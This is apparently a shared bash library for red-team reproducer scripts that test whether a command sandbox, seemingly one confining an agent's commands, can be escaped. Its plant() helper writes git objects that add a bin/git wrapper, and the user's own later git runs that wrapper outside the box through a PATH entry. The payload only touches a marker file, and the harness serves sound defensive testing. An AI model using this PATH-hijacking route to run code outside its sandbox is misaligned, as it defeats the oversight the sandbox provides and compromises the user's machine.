#!/usr/bin/env bash
# red team 49: what every 49-*.sh reproducer shares (sourced by them, after
# they set NAME and HOLE), after 48-lib.sh: a scratch home, the positive
# control's configuration, plant (git objects only), new_repo, said, one,
# finish and user_status. Each script then defines setup DIR, attack MARK
# DIR (the command's text; attack2 MARK DIR: a second, later run, when
# defined), trigger DIR (the user's routine git outside), and, where the
# run is not in DIR itself, run_dir DIR; then calls finish. The mark is
# $HOME/pwned-LABEL: a file the command's bin/git touches, or the file the
# user's git writes outside the workspace (in the user's home).
set -u
S=${1:?path to sluice}
S=$(realpath "$S")
base=$(mktemp -d "/var/tmp/rt49-$NAME.XXXXXX") || exit 1
trap 'rm -rf "$base"' EXIT
export HOME=$base/home
mkdir -p "$HOME"
git config --global user.name t; git config --global user.email t@example.invalid
git config --global init.defaultBranch main; git config --global advice.detachedHead false
git config --global protocol.file.allow always
printf '[sandbox]\ngit_sweep = no\n' >"$base/sweep-off.ini"
# plant MARK [PARENT]: shell text, run in the box, that writes git objects
# only (the work tree's bin/ is not touched): $b an executable bin/git
# touching MARK then running git, $bt a bin/ tree holding it, $C a commit
# of PARENT's tree (HEAD's) plus bin/git, child of PARENT
plant() {
  cat <<EOP
G='env PATH=/usr/bin:/bin git' &&
b=\$(printf '#!/bin/sh\\ntouch $1\\nexec /usr/bin/git "\$@"\\n' | \$G hash-object -w --stdin) &&
bt=\$(printf '100755 blob %s\\tgit\\n' \$b | \$G mktree) &&
t=\$( (\$G ls-tree ${2:-HEAD}; printf '040000 tree %s\\tbin\\n' \$bt) | \$G mktree) &&
C=\$(\$G commit-tree -p ${2:-HEAD} -m 'format helper' \$t)
EOP
}
new_repo() { mkdir -p "$1" && git -C "$1" init -q && echo a >"$1/a" && git -C "$1" add a && git -C "$1" commit -qm a; }
# what the sweep said, from the run's JSON result
said() {
  python3 -c 'import json,sys
d=json.load(open(sys.argv[1])); g=d.get("gitSweep") or {}
e=d.get("error") or {}
print("exit %s%s; git sweep: %s" % (d.get("exitCode"), " (" + str(e.get("message")) + ")" if e else "", "; ".join([i["what"][:160] for i in g.get("items") or []] + ["(error) " + str(g.get("error"))] * bool(g.get("error"))) or "nothing found"))' "$1" 2>/dev/null || head -c 300 "$1"
}
declare -f run_dir >/dev/null || run_dir() { echo "$1"; }
# the workspace folder on the user's PATH (direnv's PATH_add), for the run
# as for the user's git
declare -f path_dir >/dev/null || path_dir() { echo "$1/bin"; }
# box N LABEL DIR CONFIG TEXT: one run, its result said
box() {
  local rd; rd=$(run_dir "$3")
  PATH=$(path_dir "$rd"):$PATH "$S" run -C "$rd" ${4:+--config "$4"} --format json -- "$(printf '%s\n' "$5" | tr '\n' ' ')" \
    >"$base/$2.$1.json" 2>"$base/$2.$1.err"
  echo "== $2: run $1: $(said "$base/$2.$1.json")"
}
# one LABEL [CONFIG]: setup, the command(s) in the box, the user's trigger;
# true when the mark appeared
one() {
  local d=$base/$1 mark=$HOME/pwned-$1
  setup "$d" >/dev/null 2>&1 || { echo "setup failed"; exit 3; }
  box 1 "$1" "$d" "${2:-}" "$(attack "$mark" "$d")"
  # a later run: past the sweep's 2 s margin (git-sweep-begin.c), as an
  # agent's next command is
  if declare -f attack2 >/dev/null; then sleep 3; box 2 "$1" "$d" "${2:-}" "$(attack2 "$mark" "$d")"; fi
  trigger "$d"
  [ -e "$mark" ]
}
finish() {
  if one control "$base/sweep-off.ini"; then
    echo "== positive control (git_sweep = no): the user's git did it"
  else
    echo "== positive control failed: the attack does not work here"; exit 2
  fi
  if one boxed; then echo "HOLE: $HOLE"; exit 1; fi
  echo "stopped: the default sandbox undid it"; exit 0
}
# the user's git status with direnv's PATH_add bin (the folder's bin/ first)
user_status() { (cd "$1" && PATH=$(path_dir "$1"):$PATH git status) >/dev/null 2>&1; }
